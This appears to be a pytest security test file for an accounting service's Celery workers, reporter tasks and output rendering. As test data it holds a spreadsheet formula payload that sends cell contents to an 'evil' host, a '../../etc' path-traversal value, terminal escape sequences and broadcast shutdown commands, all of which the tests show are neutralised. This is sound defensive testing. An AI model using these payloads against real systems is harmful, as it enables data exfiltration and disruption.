"""What someone with nothing but the broker's address can do to the workers: not stop them."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from celery import Celery

from tests.pipeline import Process, wait_for


def test_a_remote_control_shutdown_from_the_broker_stops_no_worker(redis: Any, tmp_path: Path, engine: Any) -> None:
    env = {**os.environ, "OPENACCT_BROKER_URL": redis.url}
    worker = Process(["worker", "refunder", "-c", "1"], env, tmp_path / "worker.log").start()
    outsider = Celery("outsider", broker=redis.url)  # plain Celery: no OpenAcct code, no secrets
    try:
        wait_for(lambda: outsider.control.ping(timeout=0.5), 60, "the refunder to answer a ping")
        for command in ("shutdown", "pool_restart", "rate_limit", "time_limit", "cancel_consumer"):
            outsider.control.broadcast(command, arguments={"task_name": "refunder.process_batch",
                                                           "rate_limit": "1/h", "queue": "refunder"})
        assert outsider.control.ping(timeout=2), "the worker stopped answering"
        assert worker.alive()
        stats = outsider.control.inspect(timeout=2).stats()  # what Flower asks still answers
        assert stats and all(s["pool"]["max-concurrency"] == 1 for s in stats.values())
        queues = outsider.control.inspect(timeout=2).active_queues()
        assert [q["name"] for qs in queues.values() for q in qs] == ["refunder"]
    finally:
        worker.stop()


@pytest.mark.parametrize(("task", "kwargs", "message"), [
    ("reconcile_slurm", {"lookback": 400 * 24 * 3600}, "lookback must be a whole number from 1 to 172800"),
    ("reconcile_slurm", {"settle": -5}, "settle must be a whole number from 0 to 86400"),
    ("reconcile_slurm", {"lookback": "3600"}, "lookback must be a whole number"),
    ("roll_up", {"days": 100_000}, "days must be a whole number from 0 to 400"),
    ("roll_up", {"days": True}, "days must be a whole number"),
    ("write_statements", {"period": ["2026-10"]}, "period must be a month such as 2026-10"),
    ("write_statements", {"period": "../../etc"}, "bad period"),
])
def test_each_reporter_task_checks_the_arguments_a_message_brings(task: str, kwargs: dict[str, object],
                                                                    message: str, engine: Any) -> None:
    from services.reporter import tasks
    from shared import signing

    scheduled = getattr(tasks, task)
    with pytest.raises(ValueError, match=message):  # a signed message, even: its arguments are checked
        scheduled.run(signing.seal(scheduled.name, kwargs))


def test_a_report_request_cannot_ask_a_rollup_of_centuries(db_connection: Any, quickstart: None) -> None:
    import json

    from services.reporter.tasks import report_events
    from shared.db import session_scope

    request = json.dumps({"schema_version": 1, "kind": "report.requested", "event_id": "r:old", "report": "rollup",
                          "params": {"from": "1900-01-01", "to": "2026-01-01"}})
    with session_scope() as s:
        outcome = report_events(s, [request])
    assert outcome.parked == 1 and outcome.recorded == 0


def test_statement_files_are_for_the_reporter_and_its_group_alone(db_connection: Any, quickstart: None) -> None:
    import stat

    from services.reporter.tasks import statement_files
    from shared.db import session_scope

    with session_scope() as s:
        directory = statement_files(s, "2026-10")
    assert stat.S_IMODE(directory.stat().st_mode) == stat.S_IMODE(directory.parent.stat().st_mode) == 0o750
    assert {stat.S_IMODE(f.stat().st_mode) for f in directory.iterdir()} == {0o640}


def test_a_description_that_starts_like_a_formula_stays_text_in_csv(db_connection: Any, quickstart: None) -> None:
    from openacct.shortcuts import charge, deposit
    from services.reporter import render
    from services.reporter.statements import month, statements
    from shared.db import session_scope

    deposit("phys", "10", start="2026-01-01")
    charge("phys", "cluster-core-hours", "1", effective_at="2026-10-05T00:00:00Z",
           description='=HYPERLINK("http://evil/?"&A1,"refund")')
    with session_scope() as s:
        [phys] = statements(s, *month("2026-10"), ["phys"])
    text = render.to_csv(phys)
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    assert ",-0.05," in text  # an amount stays a number


def test_terminal_escapes_in_what_users_wrote_reach_no_terminal_raw(capsys: pytest.CaptureFixture[str]) -> None:
    from openacct.cli.output import done, emit_rows

    evil = "ok\x1b]0;owned\x07\x1b[2J\x9b31m"  # retitle the window, clear the screen, (C1) colour
    emit_rows([{"description": evil}], ["description"], as_json=False)
    done(f"parked: {evil}")
    out = capsys.readouterr().out
    assert "\x1b]0;" not in out and "\x1b[2J" not in out and "\x9b" not in out and "\x07" not in out
    assert out.count("\\x1b]0;owned\\x07\\x1b[2J\\x9b31m") == 2
